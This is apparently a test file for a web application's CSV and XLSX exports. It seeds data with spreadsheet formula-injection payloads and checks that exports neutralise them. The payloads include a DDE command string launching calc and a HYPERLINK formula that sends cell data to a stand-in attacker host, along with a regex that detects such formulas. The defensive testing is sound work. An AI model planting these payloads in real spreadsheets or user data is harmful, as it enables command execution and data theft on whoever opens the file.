import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ServerBuild } from '@remix-run/node'
import { aDemo, type TestDemo } from '#tests/support/demo.ts'
import { screensBuilt } from '#tests/support/built.ts'
import { served, type Served } from '#tests/support/served.ts'
import { thingsOf, type DemoThings } from './demo-things.ts'
import { libreOffice, shownBySpreadsheet } from './libre-office.ts'
import { poison } from './polyglots.ts'
import { matrix, roles } from './route-matrix.ts'
import { readParts } from './workbook-parts.ts'

const formulas = [
  `=cmd|'/c calc'!A1`,
  '=1+1',
  '+1',
  '-1',
  '+1+1',
  '-1-1',
  '@SUM(1)',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
  'a;=1+1',
  'a\t=1+1',
  '"=1+1',
  '"=1+1"',
  `,=HYPERLINK("https://evil.example/?"&A1;"x")`,
]

let demo: TestDemo
let site: Served
let things: DemoThings
let build: ServerBuild

beforeAll(async () => {
  build = await screensBuilt()
  demo = await aDemo()
  const { db } = demo.ground
  things = await thingsOf(db)
  const writings = formulas.map((formula) => () => formula)
  await poison(db, writings)
  // Names of places come from a list of ours; here they too try to be formulas.
  await sql`update territories t set name = (${formulas}::text[])[1 + numbered.place % ${formulas.length}] || t.name
    from (select code, row_number() over (order by code) as place from territories where level = 'region') numbered
    where numbered.code = t.code`.execute(db)
  site = await served({ ground: demo.ground, screens: true })
}, 400_000)
afterAll(async () => {
  await site.close()
  await demo.close()
})

/** Where a cell would begin to be computed: at its start, or where another kind of spreadsheet parts it. */
const computed = /(?:^|[;\t])\s*[=+\-@|%＝＋－＠]/
const number = /^-?[\d.]+$/
const csvType = 'text/csv'
const workbookType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'

type Kept = { id: string; path: string; bytes: Uint8Array }
const kept: Record<string, Map<string, Kept>> = { [csvType]: new Map(), [workbookType]: new Map() }
const filesOf = (type: string) => [...(kept[type]?.values() ?? [])]
const idsOf = (type: string) => [...new Set(filesOf(type).map(({ id }) => id))].toSorted()

async function keep(id: string, answer: Response, path: string) {
  const [type = ''] = (answer.headers.get('content-type') ?? '').split(';')
  kept[type]?.set(path, { id, path, bytes: new Uint8Array(await answer.arrayBuffer()) })
}

beforeAll(async () => {
  for (const [id, { visits = [] }] of Object.entries(matrix)) {
    if (build.routes[id]?.module.default) continue
    for (const visit of visits) {
      for (const role of roles) {
        const headers: Record<string, string> = role === 'guest' ? {} : { Cookie: await demo.cookieOf(role) }
        const path = visit.path(things)
        await keep(id, await fetch(site.url + path, { headers, redirect: 'manual' }), path)
      }
    }
  }
  // The only files that a form is answered with.
  const path = `/surveys/${things.closedSurvey}/exports/file`
  for (const format of ['csv', 'xlsx'])
    for (const values of ['names', 'labels']) {
      const body = new URLSearchParams({ format, values, several: 'both' })
      const headers = { Cookie: await demo.cookieOf('table-chair'), Origin: site.url }
      const answer = await fetch(site.url + path, { method: 'POST', headers, body })
      expect(answer.status).toBe(200)
      await keep('routes/surveys_.$surveyId_.exports_.file', answer, `${path} ${format} ${values}`)
    }
}, 120_000)

test('every kind of file that a spreadsheet opens is among what is looked at', () => {
  expect(idsOf(csvType)).toEqual([
    'routes/audit[.]csv',
    'routes/ballots_.$ballotId_.named-votes.$unit',
    'routes/ballots_.$ballotId_.papers.$unit',
    'routes/consultations_.$consultationId_.opinions_.comments[.]csv',
    'routes/consultations_.$consultationId_.opinions_.participants-votes[.]csv',
    'routes/consultations_.$consultationId_.opinions_.results[.]csv',
    'routes/consultations_.$consultationId_.opinions_.votes[.]csv',
    'routes/polls_.$pollId_.named-votes.$unit',
    'routes/polls_.$pollId_.roll.$unit',
    'routes/statistics[.]csv',
    'routes/surveys_.$surveyId_.exports_.file',
    'routes/surveys_.$surveyId_.results[.]csv',
  ])
  expect(idsOf(workbookType)).toEqual([
    'routes/surveys_.$surveyId_.exports_.file',
    'routes/surveys_.$surveyId_.form[.]xlsx',
  ])
})

test('nothing that somebody wrote is computed by the spreadsheet that opens an export, and all of it is there', () => {
  for (const { path, bytes } of filesOf(csvType)) {
    const rows = parse(Buffer.from(bytes), { bom: true })
    expect(rows.length, path).toBeGreaterThan(1)
    for (const cell of rows.flat()) if (!number.test(cell)) expect(cell, path).not.toMatch(computed)
    // What the apostrophe was put before is what somebody wrote.
    for (const cell of rows.flat().filter((each) => each.startsWith("'")))
      expect(
        formulas.some((formula) =>
          cell
            .slice(1)
            .replace(/([;\t])'/g, '$1')
            .startsWith(formula),
        ),
        `${path}: ${cell}`,
      ).toBe(true)
  }
  // They were really there, to be disarmed.
  const all = filesOf(csvType)
    .map(({ bytes }) => Buffer.from(bytes).toString())
    .join()
  expect(all).toMatch(/'(?:=cmd|\+1\+1|-1-1|@SUM|\t=1|\r=1| =1|＝1|＋1|－1|＠SUM|\||%)|;'=1/)
})

test('a workbook holds words and numbers only, each word as it was written', () => {
  const asWritten = new Set(formulas.map(asLines))
  for (const { path, bytes } of filesOf(workbookType)) {
    const { faults, sheets } = readParts(bytes)
    expect(faults, path).toEqual([])
    const cells = sheets.flat(2)
    for (const cell of cells)
      if (computed.test(cell) && !number.test(cell)) expect(asWritten, path).toContain(cell)
    // Which answer got which of them goes by where its row lies.
    if (path.includes('/exports'))
      expect(formulas.filter((each) => cells.includes(asLines(each))).length, path).toBeGreaterThan(15)
  }
})

test('what would compute in a workbook is found', () => {
  for (const written of [
    '<c r="A1"><f>1+1</f><v>2</v></c>',
    '<c r="A1" t="str"><v>=1+1</v></c>',
    '<c r="A1" t="e"><v>#REF!</v></c>',
  ])
    expect(
      readParts(zipSync({ 'xl/worksheets/sheet1.xml': strToU8(`<row r="1">${written}</row>`) })).faults,
      written,
    ).not.toEqual([])
  expect(
    readParts(zipSync({ 'xl/externalLinks/externalLink1.xml': strToU8('<ddeLink/>') })).faults,
  ).toHaveLength(2)
})

// It takes seconds to start: where the tests run on Postgres too, once is enough.
describe.skipIf(!libreOffice || !process.env['TEST_DATABASE_URL'])(
  `opened in LibreOffice${libreOffice ? '' : ' (there is none on this machine)'}`,
  () => {
    /** One that is computed, where it is let. */
    const armed = Buffer.from('\uFEFF=1+1\r\n"=2+2"\r\n')
    test('every cell of a CSV is the words that are in it', async () => {
      const files = filesOf(csvType)
      const shown = await shownBySpreadsheet([...files.map(({ bytes }) => bytes), armed], 'csv')
      expect(shown.at(-1)).toEqual([[['2'], ['4']]])
      for (const [index, { path, bytes }] of files.entries())
        compare(shown[index]?.[0] ?? [], parse(Buffer.from(bytes), { bom: true }), path)
    }, 300_000)
    test('every cell of a workbook is the words that are in it', async () => {
      const files = filesOf(workbookType)
      const shown = await shownBySpreadsheet(
        files.map(({ bytes }) => bytes),
        'xlsx',
      )
      for (const [index, { path, bytes }] of files.entries())
        for (const [place, rows] of readParts(bytes).sheets.entries())
          compare(shown[index]?.[place] ?? [], rows, path)
    }, 300_000)
  },
)

/** A cell knows one end of a line. */
function asLines(cell: string): string {
  return cell.replace(/\r\n?/g, '\n')
}

/** Numbers and truths of ours are shown as the spreadsheet writes them; every other cell is compared. */
function compare(shown: string[][], written: string[][], path: string) {
  for (const [at, row] of written.entries())
    for (const [column, cell] of row.entries())
      if (!/^(?:-?[\d.]+|true|false)$/.test(cell))
        expect(asLines(shown[at]?.[column] ?? ''), `${path}, row ${at + 1}`).toBe(asLines(cell))
}
